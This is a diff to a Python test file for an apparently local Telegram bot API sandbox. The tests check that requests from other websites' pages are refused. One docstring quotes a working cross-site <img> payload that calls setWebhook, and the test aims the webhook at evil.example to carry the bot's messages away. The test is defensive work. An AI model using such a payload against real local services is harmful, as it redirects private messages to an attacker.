@@ -1,4 +1,4 @@
-"""The sandbox belongs to whoever sits at the machine: what a web page of somebody else tries through their browser."""
+"""The sandbox serves only the person at this machine: attacks that a web page can try through that person's browser."""
 
 from __future__ import annotations
 
@@ -32,7 +32,7 @@ async def test_a_page_of_another_site_reaches_no_route(telegram: Telegram, path:
 
 
 async def test_a_picture_in_a_web_page_cannot_carry_the_diary_away(telegram: Telegram) -> None:
-    """What was shown to work: ``<img src="http://127.0.0.1:8080/bot<token>/setWebhook?url=...">``."""
+    """This attack worked once: ``<img src="http://127.0.0.1:8080/bot<token>/setWebhook?url=...">``."""
     image = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors", "sec-fetch-dest": "image"}
     where = f"/bot{telegram.token}/setWebhook?url=https://evil.example/hook"
     assert (await telegram.http.get(where, headers=image)).status_code == 403
